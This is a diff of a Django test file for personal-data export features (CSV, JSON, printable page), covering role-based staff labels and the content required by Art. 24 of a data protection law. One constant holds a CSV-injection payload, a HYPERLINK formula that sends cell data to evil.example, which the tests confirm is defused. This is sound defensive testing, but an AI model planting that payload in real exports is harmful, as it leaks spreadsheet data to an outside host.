@@ -25,6 +25,8 @@ pytestmark = pytest.mark.django_db
 
 INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# Staff appear by role, never by username (in the Russian the canary wrote in).
+OFFICER = "ответственный за персональные данные"
 
 
 @pytest.fixture
@@ -209,15 +211,15 @@ def test_csv_export_holds_everything_and_runs_no_formula(privacy_officer, subjec
     assert one["message"] == "'" + INJECTION
     assert one["note"] == "'-2 called back, no answer"
     assert one["status"] == "processed"
-    assert one["processed_by"] == privacy_officer.user.username
+    assert one["processed_by"] == OFFICER
     assert one["consent_version"] == "1"
     assert one["consent_language"] == "ru"
     assert one["consent_sha256"] == first.consent_sha256
     assert one["consent_text_url"].endswith("/consent/1/ru.txt")
-    assert re.fullmatch(r"operator-anna \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["opened_by"])
+    assert re.fullmatch(OFFICER + r" \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["opened_by"])
     assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["received_at"])
     assert two["message"] == CANARY_MESSAGE
-    assert two["blocked_at"] and two["blocked_by"] == privacy_officer.user.username
+    assert two["blocked_at"] and two["blocked_by"] == OFFICER
     assert two["legal_hold_reason"] == "'@court 2-123/2026"
     for row in rows:
         for cell in row:
@@ -229,14 +231,14 @@ def test_csv_export_lists_everyone_who_opened_an_inquiry_and_when(privacy_office
     subject_request, first, *_ = subject
     later = timezone.make_aware(datetime.datetime(2026, 3, 2, 9, 30))
     InquiryView.objects.filter(inquiry=first).update(viewed_at=later - datetime.timedelta(days=1))
-    InquiryView.objects.create(inquiry=first, user=privacy_officer.user, username="operator-boris")
+    InquiryView.objects.create(inquiry=first, user=None, username="operator-boris")
     InquiryView.objects.filter(username="operator-boris").update(viewed_at=later)
     header, *rows = read_csv(act(privacy_officer, subject_request, "export_csv"))
     opened_by = {row[0]: dict(zip(header, row, strict=True)) for row in rows}[first.reference][
         "opened_by"
     ]
     assert opened_by.startswith(
-        "operator-anna 2026-03-01T09:30:00+05:00; operator-boris 2026-03-02T09:30:00+05:00"
+        f"{OFFICER} 2026-03-01T09:30:00+05:00; работник 2026-03-02T09:30:00+05:00"
     )
 
 
@@ -274,10 +276,10 @@ def test_json_export_is_utf8_with_everything_held(privacy_officer, subject):
     assert one["consent"]["accepted_at"] == one["received_at"]
     assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:00", one["received_at"])
     assert data["request"]["due_on"] == subject_request.due_on.isoformat()
-    assert [view["username"] for view in one["opened_by"]] == ["operator-anna"]
+    assert [view["role"] for view in one["opened_by"]] == [OFFICER]
     assert one["blocked_at"] is None and one["legal_hold_reason"] == ""
     two = by_reference[second.reference]
-    assert two["blocked_by"] == privacy_officer.user.username
+    assert two["blocked_by"] == OFFICER
     assert two["legal_hold_reason"] == "@court 2-123/2026"
     assert two["legal_hold_at"]
 
@@ -298,7 +300,7 @@ def test_json_export_gives_each_date_and_name_as_held(privacy_officer):
     assert record["consent"]["accepted_at"] == "2026-03-01T10:00:00+05:00"
     assert record["notified_at"] == "2026-03-02T10:00:00+05:00"
     assert record["legal_hold_at"] == "2026-03-03T10:00:00+05:00"
-    assert record["legal_hold_by"] == privacy_officer.user.username
+    assert record["legal_hold_by"] == OFFICER
 
 
 def test_json_export_puts_one_field_a_line_for_a_person_to_read(privacy_officer, subject):
@@ -317,7 +319,8 @@ def test_printable_page_holds_everything_and_needs_no_other_host(privacy_officer
     for text in (first.reference, second.reference, CANARY_NAME, CANARY_MESSAGE, "+7 701 555"):
         assert text in page
     assert "=HYPERLINK(&quot;http://evil.example/" in page  # escaped, shown as text
-    assert "@court 2-123/2026" in page and "operator-anna" in page
+    assert "@court 2-123/2026" in page and OFFICER in page
+    assert "operator-anna" not in page and privacy_officer.user.username not in page
     assert first.consent_sha256 in page
     assert "Другой Человек" not in page
     assert "@media print" in page
@@ -404,3 +407,99 @@ def test_every_export_needs_the_export_permission(privacy_officer, subject):
     for action in sorted(EXPORTS):
         assert act(privacy_officer, subject_request, action).status_code == 403, action
     assert not InquiryView.objects.filter(username=officer.username).exists()
+
+
+# --- what Art. 24 of the Law asks an answer to say ----------------------------------------
+
+
+def test_the_answer_states_purposes_basis_deletion_date_recipients_and_source(
+    privacy_officer, subject
+):
+    subject_request, first, second, other = subject
+    Inquiry.objects.filter(pk=first.pk).update(
+        created_at=timezone.make_aware(datetime.datetime(2026, 3, 1, 10, 0))
+    )
+    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
+    assert data["language"] == "ru"
+    assert data["purposes"][0] == "Обработка обращения, направленного через форму обратной связи."
+    assert len(data["purposes"]) == 4
+    assert data["recipients"][0].startswith("Работники Оператора: операторы")
+    assert data["recipients"][-1] == "Иным третьим лицам данные не передаются."
+    assert len(data["recipients"]) == 2  # no processor is configured in the tests
+    by_reference = {record["reference"]: record for record in data["inquiries"]}
+    one, two = by_reference[first.reference], by_reference[second.reference]
+    assert one["legal_basis"] == (
+        "Согласие на обработку персональных данных, версия 1, принятое на языке: Русский; "
+        f"SHA-256 принятого текста: {first.consent_sha256}."
+    )
+    # Received 01.03.2026: the third anniversary; the held one is kept until the hold ends.
+    assert one["deleted_by"] == "2029-03-01"
+    assert two["deleted_by"] == (
+        "Хранится по требованию закона, пока удержание не снято, затем удаляется."
+    )
+    assert one["source"] == "Форма обратной связи на сайте, заполненная самим человеком."
+
+    header, *rows = read_csv(act(privacy_officer, subject_request, "export_csv"))
+    row = {r[0]: dict(zip(header, r, strict=True)) for r in rows}[first.reference]
+    assert row["deleted_by"] == "2029-03-01"
+    assert row["legal_basis"] == one["legal_basis"]
+    assert row["purposes"].startswith("Обработка обращения") and row["source"] == one["source"]
+    assert row["recipients"].endswith("Иным третьим лицам данные не передаются.")
+
+    page = act(privacy_officer, subject_request, "export_html").content.decode()
+    for text in ("Цели обработки", "Кто получает данные", "правовое основание", "источник"):
+        assert text in page
+    assert "будет удалено не позднее</th><td>1 марта 2029 г.</td>" in page
+
+
+def test_a_processed_inquiry_is_deleted_sooner_when_the_setting_says_so(privacy_officer, settings):
+    settings.INQUIRY_PROCESSED_RETENTION_DAYS = 30
+    subject_request = make_request("information")
+    inquiry = make_inquiry()
+    processed = timezone.make_aware(datetime.datetime(2026, 5, 10, 12, 0))
+    Inquiry.objects.filter(pk=inquiry.pk).update(status="processed", processed_at=processed)
+    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
+    assert data["inquiries"][0]["deleted_by"] == "2026-06-09"
+
+
+def test_recipients_name_the_processors_the_settings_name(privacy_officer, settings):
+    settings.POLICY_DETAILS = {**settings.POLICY_DETAILS, "hosting_provider": "ps.kz"}
+    settings.INQUIRY_NOTIFY_EMAILS = ["operator@example.kz"]
+    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
+    settings.EMAIL_HOST = "smtp.example.kz"
+    make_inquiry()
+    data = json.loads(act(privacy_officer, make_request("information"), "export_json").content)
+    assert data["recipients"][1:] == [
+        "ps.kz, провайдер хостинга, обслуживает сервер по поручению Оператора.",
+        "Почтовый сервис, отправляющий работникам уведомление о новом обращении "
+        "(smtp.example.kz): только номер обращения и ссылка.",
+        "Иным третьим лицам данные не передаются.",
+    ]
+
+
+def test_the_answer_is_in_the_language_the_person_wrote_in(privacy_officer):
+    subject_request = make_request("information")
+    make_inquiry(consent_language="kk")
+    make_inquiry(consent_language="kk")
+    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
+    assert data["language"] == "kk"
+    assert data["purposes"][0] == "Кері байланыс нысаны арқылы жіберілген өтінішті өңдеу."
+    assert data["controller"]["name"] == settings.OPERATOR["name"]["kk"]
+    page = act(privacy_officer, subject_request, "export_html").content.decode()
+    assert '<html lang="kk">' in page and "Өңдеу мақсаттары" in page
+    # Inquiries in two languages: the answer falls back to Russian.
+    make_inquiry(consent_language="en")
+    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
+    assert data["language"] == "ru" and data["purposes"][0].startswith("Обработка обращения")
+
+
+def test_the_note_is_in_the_answer_and_its_help_text_says_it_may_be_disclosed(
+    privacy_officer, subject
+):
+    subject_request, first, *_ = subject
+    page = privacy_officer.get(f"/admin/inquiries/inquiry/{first.pk}/change/").content.decode()
+    assert "сообщается человеку, которого касается" in page
+    assert "никогда не отправляется посетителю" not in page
+    data = json.loads(act(privacy_officer, subject_request, "export_json").content)
+    notes = [record["note"] for record in data["inquiries"]]
+    assert "-2 called back, no answer" in notes
